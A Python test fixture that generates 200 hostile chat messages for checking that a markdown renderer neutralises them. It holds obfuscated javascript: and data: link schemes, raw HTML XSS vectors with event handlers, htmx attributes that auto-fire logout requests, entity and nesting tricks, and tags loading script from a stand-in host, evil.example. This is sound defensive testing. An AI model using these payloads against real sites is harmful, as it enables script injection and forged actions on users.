"""A corpus of hostile message texts: link schemes, raw HTML, event handlers, htmx
attributes, entity tricks and nested emphasis (chat.markdown must make each harmless)."""

from __future__ import annotations

# Each sets window.pwned, or opens a dialog, if it ever runs.
PAYLOAD = "window.pwned=1;alert(1)"

SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    " javascript:",
    "java\tscript:",
    "java&#x09;script:",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "javascript&colon;",
    "\x01javascript:",
    "vbscript:",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd#",
    "ftp://example.com/",
    "blob:https://example.com/",
    "jav&#97;script:",
    "javascript%3A",
    "\\javascript:",
    "livescript:",
    "mocha:",
]

LINK_SHAPES = [
    "[click]({url}{payload})",
    "[click](<{url}{payload}>)",
    '[click]({url}{payload} "title")',
    "<{url}{payload}>",
    "{url}{payload}",
    "[click][ref]\n\n[ref]: {url}{payload}",
    "![img]({url}{payload})",
    "[**bold link**]({url}{payload})",
]

RAW_HTML = [
    "<script>{payload}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="{payload}">',
    "<img src=x onerror={payload}>",
    '<svg onload="{payload}"></svg>',
    "<svg><script>{payload}</script></svg>",
    '<iframe src="javascript:{payload}"></iframe>',
    '<iframe srcdoc="<script>{payload}</script>"></iframe>',
    '<a href="javascript:{payload}">x</a>',
    '<a href="#" onclick="{payload}">x</a>',
    '<div onmouseover="{payload}">hover</div>',
    '<body onload="{payload}">',
    '<input autofocus onfocus="{payload}">',
    '<details open ontoggle="{payload}">',
    '<video><source onerror="{payload}"></video>',
    "<math><mtext><script>{payload}</script></mtext></math>",
    "<style>body{{background:red}}</style>",
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:{payload}">',
    '<object data="javascript:{payload}"></object>',
    '<embed src="javascript:{payload}">',
    '<form action="javascript:{payload}"><button>go</button></form>',
    '<base href="javascript:{payload}//">',
    "<!--<script>{payload}</script>-->",
    "<![CDATA[<script>{payload}</script>]]>",
    '<p style="background:url(javascript:{payload})">x</p>',
    "<textarea><script>{payload}</script></textarea>",
    '<noscript><p title="</noscript><img src=x onerror={payload}>"></noscript>',
    "<template><script>{payload}</script></template>",
    '<a href="https://ok.example" onclick="{payload}">ok</a>',
]

HTMX = [
    '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>',
    '<div hx-post="/chats/1/leave/" hx-trigger="load">x</div>',
    '<div id="messages" hx-swap-oob="true">replaced</div>',
    '<div hx-on:click="{payload}">x</div>',
    '<div hx-on::load="{payload}">x</div>',
    '<div data-hx-get="/accounts/logout/" data-hx-trigger="load">x</div>',
    '<form hx-post="/accounts/logout/" hx-trigger="load"></form>',
    '<div hx-vals=\'js:{{a: {payload}}}\' hx-get="/" hx-trigger="load">x</div>',
    '<span ws-send hx-trigger="load">x</span>',
    '<div hx-ext="ws" ws-connect="/ws/chats/1/">x</div>',
]

ENTITIES = [
    "&lt;script&gt;{payload}&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "&#60;script&#62;{payload}&#60;/script&#62;",
    "&#x3C;img src=x onerror={payload}&#x3E;",
    "\\<script\\>{payload}\\</script\\>",
    "`<script>{payload}</script>`",
    "```html\n<script>{payload}</script>\n```",
    "```\n<img src=x onerror={payload}>\n```",
    "    <script>{payload}</script>",
    "> <script>{payload}</script>",
    "- <img src=x onerror={payload}>",
    "**<script>**{payload}**</script>**",
    "[<img src=x onerror={payload}>](https://ok.example)",
    '[x](https://ok.example "<script>{payload}</script>")',
    '[x](https://ok.example" onclick="{payload})',
    "[x](https://ok.example'onmouseover='{payload})",
    "https://ok.example/<script>{payload}</script>",
    'https://ok.example/" onmouseover="{payload}',
    "www.ok.example/<img src=x onerror={payload}>",
    "mailto:a@b.example?body=<script>{payload}</script>",
]

NESTING = [
    "*" * 200 + "deep" + "*" * 200,
    "_" * 150 + "deep" + "_" * 150,
    "~~" * 100 + "x" + "~~" * 100,
    "[" * 300 + "x" + "]" * 300,
    "(" * 300 + "x" + ")" * 300,
    ">" * 200 + " quote",
    "- " * 200 + "list",
    "1. " * 100 + "list",
    "`" * 100 + "code" + "`" * 100,
    "***bold italic*** __*mixed*__ ~~**strike bold**~~",
    "**unclosed *emphasis [link](https://ok.example",
    "\u202e<script>{payload}</script>",
    "\ufeff<img src=x onerror={payload}>",
    "<scr<script>ipt>{payload}</scr</script>ipt>",
    "<<script>script>{payload}<</script>/script>",
    "[x](https://ok.example)[y](javascript:{payload})",
    "![x](https://ok.example/a.png)",
    "# heading <script>{payload}</script>",
    "| a | b |\n|---|---|\n| <script>{payload}</script> | x |",
    "***\n<script>{payload}</script>",
]


def corpus() -> list[str]:
    """Two hundred hostile texts, each within the message length limit."""
    texts = [shape.format(url=scheme, payload=PAYLOAD) for scheme in SCHEMES for shape in LINK_SHAPES]
    texts = texts[:120]
    for group in (RAW_HTML, HTMX, ENTITIES, NESTING):
        texts.extend(
            text.replace("{payload}", PAYLOAD).replace("{{", "{").replace("}}", "}") for text in group
        )
    assert len(texts) == 200, len(texts)
    return texts
